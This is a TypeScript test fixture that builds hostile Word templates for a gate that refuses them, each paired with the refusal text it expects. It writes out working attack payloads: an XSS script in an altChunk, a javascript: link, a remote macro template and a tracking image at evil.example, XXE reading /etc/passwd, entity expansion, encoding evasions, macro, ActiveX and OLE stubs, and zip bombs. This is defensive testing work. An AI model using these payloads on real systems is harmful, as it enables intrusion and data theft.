/**
 * The hostile templates of issue 10, each with the words its refusal must contain. Built with
 * the lying zip writer (hostile-zip.ts); the parts around the attack are a real minimal .docx
 * with contract tags, so nothing but the attack can be the reason for a refusal.
 */
import { overlappingBomb, type RawEntry, text, writeZip, zerosDeflated } from "./hostile-zip";

const W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

export const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`;

const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** Paragraphs of text (tags included) as body XML. */
export const paragraphs = (lines: readonly string[]): string =>
  lines.map((l) => `<w:p><w:r><w:t xml:space="preserve">${esc(l)}</w:t></w:r></w:p>`).join("");

export function documentXml(body: string): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>${body}<w:sectPr/></w:body></w:document>`;
}

export function relsXml(rels: readonly string[]): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join("")}</Relationships>`;
}

/** A small usable template: a few contract tags and the problems loop. */
export const GOOD_BODY = paragraphs([
  "{标题}",
  "{#问题}",
  "{问题序号}{问题}",
  "{/问题}",
  "{成文日期}",
]);

/** The minimal parts of a .docx with `body`, `docRels` and extra parts. */
export function docxEntries(
  body = GOOD_BODY,
  docRels: readonly string[] = [],
  extra: Readonly<Record<string, Uint8Array | string>> = {},
): RawEntry[] {
  const parts: Record<string, Uint8Array | string> = {
    "[Content_Types].xml": CONTENT_TYPES,
    "_rels/.rels": ROOT_RELS,
    "word/document.xml": documentXml(body),
    "word/_rels/document.xml.rels": relsXml(docRels),
    ...extra,
  };
  return Object.entries(parts).map(([name, data]) => ({
    name,
    data: typeof data === "string" ? text(data) : data,
  }));
}

export const docx = (
  body = GOOD_BODY,
  docRels: readonly string[] = [],
  extra: Readonly<Record<string, Uint8Array | string>> = {},
): Uint8Array => writeZip(docxEntries(body, docRels, extra));

const utf16le = (s: string): Uint8Array => {
  const out = new Uint8Array(2 + s.length * 2);
  out[0] = 0xff;
  out[1] = 0xfe;
  for (let i = 0; i < s.length; i++) {
    out[2 + i * 2] = s.charCodeAt(i) & 0xff;
    out[3 + i * 2] = s.charCodeAt(i) >> 8;
  }
  return out;
};

/** ASCII → EBCDIC (code page 037) for the letters and signs an XML prolog needs. */
function ebcdic(s: string): Uint8Array {
  const map: Record<string, number> = {
    "<": 0x4c,
    "?": 0x6f,
    ">": 0x6e,
    "!": 0x5a,
    " ": 0x40,
    "=": 0x7e,
    '"': 0x7f,
    ".": 0x4b,
    "-": 0x60,
    "[": 0xba,
    "]": 0xbb,
    "/": 0x61,
    ":": 0x7a,
    "0": 0xf0,
    "1": 0xf1,
  };
  const letter = (c: string) => {
    const up = c.toUpperCase();
    const base = up === c ? 0xc0 : 0x80;
    const i = up.charCodeAt(0) - 65;
    if (i < 9) return base + 1 + i;
    if (i < 18) return base + 0x10 + 1 + (i - 9);
    return base + 0x20 + 2 + (i - 18);
  };
  return Uint8Array.from([...s].map((c) => map[c] ?? (/[A-Za-z]/.test(c) ? letter(c) : 0x40)));
}

const SCRIPT_HTML = `<html><body><script>localStorage.setItem("zhenggai.library.token","STOLEN");parent.document.title="PWNED";alert(1)</script><p>内容</p></body></html>`;

export interface HostileTemplate {
  readonly name: string;
  readonly bytes: () => Uint8Array;
  /** Words the refusal must contain (Chinese reason and the part it names). */
  readonly reason: RegExp;
}

/** Every hostile template of issue 10 that the gate refuses before docxtemplater runs. */
export const HOSTILE_TEMPLATES: readonly HostileTemplate[] = [
  {
    name: "altChunk with a script",
    bytes: () =>
      docx(
        `${GOOD_BODY}<w:altChunk r:id="rIdA"/>`,
        [`<Relationship Id="rIdA" Type="${REL}/aFChunk" Target="chunk.html"/>`],
        { "word/chunk.html": SCRIPT_HTML },
      ),
    reason: /altChunk/,
  },
  {
    name: "javascript: hyperlink",
    bytes: () =>
      docx(
        `${GOOD_BODY}<w:p><w:hyperlink r:id="rIdJ"><w:r><w:t>点这里</w:t></w:r></w:hyperlink></w:p>`,
        [
          `<Relationship Id="rIdJ" Type="${REL}/hyperlink" Target="javascript:alert(document.domain)" TargetMode="External"/>`,
        ],
      ),
    reason: /word\/_rels\/document\.xml\.rels.*非网页链接.*javascript:/,
  },
  {
    name: "attachedTemplate pointing at a remote .dotm",
    bytes: () =>
      docx(GOOD_BODY, [], {
        "word/settings.xml": `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rIdT"/></w:settings>`,
        "word/_rels/settings.xml.rels": relsXml([
          `<Relationship Id="rIdT" Type="${REL}/attachedTemplate" Target="https://evil.example/macro.dotm" TargetMode="External"/>`,
        ]),
      }),
    reason: /settings\.xml\.rels.*外部模板（attachedTemplate）/,
  },
  {
    name: "remote image over http",
    bytes: () =>
      docx(GOOD_BODY, [
        `<Relationship Id="rIdI" Type="${REL}/image" Target="http://evil.example/track.png" TargetMode="External"/>`,
      ]),
    reason: /外部图片“http:\/\/evil\.example/,
  },
  {
    name: "file: relationship",
    bytes: () =>
      docx(GOOD_BODY, [
        `<Relationship Id="rIdF" Type="${REL}/hyperlink" Target="file:///C:/Windows/win.ini" TargetMode="External"/>`,
      ]),
    reason: /非网页链接“file:\/\/\/C:/,
  },
  {
    name: "DOCTYPE in a .vml part",
    bytes: () =>
      docx(GOOD_BODY, [], {
        "word/drawing1.vml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><xml>&b;</xml>`,
      }),
    reason: /“word\/drawing1\.vml”中含有 DOCTYPE/,
  },
  {
    name: "DOCTYPE in a UTF-16 part",
    bytes: () =>
      docx(GOOD_BODY, [], {
        "docProps/custom.xml": utf16le(
          `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>`,
        ),
      }),
    reason: /“docProps\/custom\.xml”中含有 DOCTYPE/,
  },
  {
    name: "UTF-7 part",
    bytes: () =>
      docx(GOOD_BODY, [], {
        "docProps/app.xml": `<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE x+AD4-<Properties/>`,
      }),
    reason: /“docProps\/app\.xml”使用 UTF-7 编码/,
  },
  {
    name: "EBCDIC part",
    bytes: () =>
      docx(GOOD_BODY, [], {
        "docProps/core.xml": ebcdic(`<?xml version="1.0" encoding="IBM037"?><!DOCTYPE x><x/>`),
      }),
    reason: /“docProps\/core\.xml”使用 EBCDIC 编码/,
  },
  {
    name: "macros (vbaProject.bin)",
    bytes: () =>
      docx(
        GOOD_BODY,
        [
          `<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`,
        ],
        {
          "word/vbaProject.bin": Uint8Array.from([
            0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1, 2, 3,
          ]),
        },
      ),
    reason: /“word\/(vbaProject\.bin|_rels\/document\.xml\.rels)”含有宏（VBA）/,
  },
  {
    name: "ActiveX control",
    bytes: () =>
      docx(
        GOOD_BODY,
        [`<Relationship Id="rIdX" Type="${REL}/control" Target="activeX/activeX1.xml"/>`],
        {
          "word/activeX/activeX1.xml": `<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>`,
        },
      ),
    reason: /ActiveX/,
  },
  {
    name: "OLE object",
    bytes: () =>
      docx(
        `${GOOD_BODY}<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r></w:p>`,
        [`<Relationship Id="rIdO" Type="${REL}/oleObject" Target="embeddings/oleObject1.bin"/>`],
        { "word/embeddings/oleObject1.bin": Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 9, 9]) },
      ),
    reason: /OLE 对象/,
  },
  {
    name: "INCLUDETEXT field reading a local file",
    bytes: () =>
      docx(
        `${GOOD_BODY}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "C:\\\\secret.txt" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    reason: /INCLUDETEXT.*外部文件/,
  },
  {
    name: "overlapping entries (50, the 74 KB bomb)",
    bytes: () => overlappingBomb(50, 900_000, docxEntries()),
    reason: /重叠的内部文件/,
  },
  {
    name: "an entry that inflates past its declared size (1 GB in 1 MB)",
    bytes: () =>
      writeZip([
        ...docxEntries().filter((e) => e.name !== "word/document.xml"),
        {
          name: "word/document.xml",
          data: new Uint8Array(0),
          compressed: zerosDeflated(1024 * 1024 * 1024),
          declaredSize: 4096,
        },
      ]),
    reason: /“word\/document\.xml”解压后超过了目录中记录的大小/,
  },
  {
    name: "declared sizes past the budget",
    bytes: () =>
      writeZip([
        ...docxEntries(),
        { name: "word/media/big.bin", data: new Uint8Array(10), declaredSize: 0x7fffffff },
      ]),
    reason: /“word\/media\/big\.bin”解压后为 2048 MB，超过.*上限/,
  },
  {
    name: "the same part twice",
    bytes: () =>
      writeZip([
        ...docxEntries(),
        { name: "word/document.xml", data: text(documentXml(paragraphs(["{标题}"]))) },
      ]),
    reason: /“word\/document\.xml”出现了不止一次/,
  },
  {
    name: "100,000 tags",
    bytes: () => docx(`${GOOD_BODY}${paragraphs([Array(100_000).fill("{标题}").join("")])}`),
    reason: /100006 个“\{”，超过模板标签数的上限 2000 个/,
  },
];

/** Hostile templates the gate passes to the contract check, which refuses them. */
export const HOSTILE_CONTRACT: readonly HostileTemplate[] = [
  {
    name: "ten nested {#状态统计} loops",
    bytes: () =>
      docx(
        paragraphs([
          "{标题}",
          ...Array(10).fill("{#状态统计}"),
          "{状态}{数量}",
          ...Array(10).fill("{/状态统计}"),
        ]),
      ),
    reason: /循环“\{#状态统计\}”（第3段）写在同名循环 \{#状态统计\}…\{\/状态统计\} 之内/,
  },
  {
    name: "loops nested deeper than the contract",
    bytes: () =>
      docx(
        paragraphs([
          "{#方面}",
          "{#类别}",
          "{#问题}",
          "{#制度}",
          "{名称}",
          "{/制度}",
          "{/问题}",
          "{/类别}",
          "{/方面}",
        ]),
      ),
    reason: /嵌套了 4 层；标签列表中的循环最多嵌套 3 层/,
  },
  {
    name: "a condition printed as text",
    bytes: () => docx(paragraphs(["{标题}", "抄送：{有抄送}"])),
    reason: /“\{有抄送\}”（第2段）是条件，不能当作文字印出/,
  },
  {
    name: "another unit's finished report (no contract tag)",
    bytes: () =>
      docx(paragraphs(["中共某某县委办公室关于巡察整改情况的报告", "现将整改情况报告如下。"])),
    reason: /没有任何标签列表中的标签.*不是模板/,
  },
];
